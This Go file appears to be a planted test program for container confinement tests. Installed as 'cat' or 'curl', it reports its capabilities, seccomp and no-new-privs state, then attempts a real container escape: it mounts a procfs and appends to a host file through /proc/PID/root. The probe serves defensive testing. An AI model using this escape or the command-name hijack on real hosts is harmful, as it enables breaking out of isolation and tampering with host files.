package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// The planted program of the --fs container tests (integration/
// fs_confine_test.go): a container puts this binary where a host shell
// looks for commands, as /usr/local/bin/cat and /usr/bin/curl. Run under
// one of those names, or with -mode report, it prints what it may do:
//
//	REPORT uid=U gid=G groups=... eff=HEX prm=HEX bnd=HEX nnp=N seccomp=M keyctl=ERR
//	ESCAPE mount=ERR write=ERR
//
// keyctl is a call containerd's default seccomp profile denies (EPERM)
// that the kernel otherwise answers itself (EOPNOTSUPP for a bogus
// operation). ESCAPE is the attack: mount a fresh procfs, which shows the
// mounter's pid namespace, at /shared/proc and append a line to the host
// file named in /shared/victim through /proc/PID/root of that procfs, for
// any PID it can. The
// lines go to stdout and are appended to /shared/planted.log, if present.

// plantedNames are the names the container plants the program under.
var plantedNames = []string{"cat", "curl"}

func isPlanted() bool {
	for _, n := range plantedNames {
		if filepath.Base(os.Args[0]) == n {
			return true
		}
	}
	return false
}

func report() {
	var out strings.Builder
	hdr := unix.CapUserHeader{Version: unix.LINUX_CAPABILITY_VERSION_3}
	var data [2]unix.CapUserData
	capErr := unix.Capget(&hdr, &data[0])
	set := func(f func(unix.CapUserData) uint32) uint64 { return uint64(f(data[1]))<<32 | uint64(f(data[0])) }
	eff := set(func(d unix.CapUserData) uint32 { return d.Effective })
	prm := set(func(d unix.CapUserData) uint32 { return d.Permitted })
	var bnd uint64
	for c := 0; c < 64; c++ {
		if r, err := unix.PrctlRetInt(unix.PR_CAPBSET_READ, uintptr(c), 0, 0, 0); err != nil {
			break
		} else if r == 1 {
			bnd |= 1 << c
		}
	}
	nnp, _ := unix.PrctlRetInt(unix.PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0)
	mode, _ := unix.PrctlRetInt(unix.PR_GET_SECCOMP, 0, 0, 0, 0)
	_, _, keyErr := unix.Syscall(unix.SYS_KEYCTL, 0xffff, 0, 0)
	groups, _ := unix.Getgroups()
	fmt.Fprintf(&out, "REPORT uid=%d gid=%d groups=%v eff=%016x prm=%016x bnd=%016x nnp=%d seccomp=%d keyctl=%v capget=%v\n",
		os.Getuid(), os.Getgid(), groups, eff, prm, bnd, nnp, mode, result(keyErr), capErr)
	fmt.Fprintf(&out, "ESCAPE %s\n", escape())
	fmt.Print(out.String())
	if f, err := os.OpenFile("/shared/planted.log", os.O_WRONLY|os.O_APPEND, 0); err == nil {
		f.WriteString(out.String())
		f.Close()
	}
}

// escape tries to write to the host file /shared/victim names.
func escape() string {
	victim, err := os.ReadFile("/shared/victim")
	if err != nil {
		return fmt.Sprintf("mount=- write=no-victim(%v)", err)
	}
	dir := "/shared/proc"
	os.Mkdir(dir, 0o755)
	mountErr := unix.Mount("proc", dir, "proc", 0, "")
	if mountErr == nil {
		defer unix.Unmount(dir, unix.MNT_DETACH)
	}
	// Any process of the procfs's pid namespace whose root is the host's
	// will do: try them all.
	err = unix.ENOENT
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if _, convErr := strconv.Atoi(e.Name()); convErr != nil {
			continue
		}
		path := filepath.Join(dir, e.Name(), "root", strings.TrimSpace(string(victim)))
		var f *os.File
		if f, err = os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0); err == nil {
			_, err = f.WriteString("written by the container's planted program\n")
			f.Close()
			break
		}
	}
	return fmt.Sprintf("mount=%s write=%s", result(mountErr), result(err))
}

// result names an outcome: ok, or the errno's name (errName).
func result(err error) string {
	if err == nil || err == unix.Errno(0) {
		return "ok"
	}
	return errName(err)
}
